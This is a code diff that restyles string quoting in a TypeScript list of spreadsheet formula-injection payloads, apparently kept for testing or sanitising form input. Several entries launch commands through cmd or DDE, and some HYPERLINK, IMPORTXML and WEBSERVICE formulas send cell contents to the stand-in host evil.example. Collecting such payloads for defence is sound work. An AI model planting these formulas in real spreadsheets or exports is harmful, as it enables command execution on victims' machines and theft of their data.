@@ -1,8 +1,8 @@
 /** What has been typed into forms to run as a formula in someone else's spreadsheet. */
 export const FORMULA_PAYLOADS: readonly string[] = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
-  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
   '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
   '=WEBSERVICE("http://evil.example/")',
   '=DDE("cmd";"/C calc";"x")',
@@ -14,7 +14,7 @@ export const FORMULA_PAYLOADS: readonly string[] = [
   '-1+1',
   "-2+3+cmd|' /C calc'!D2",
   '--1',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '@A1',
   '\t=1+1',
   '\r=1+1',
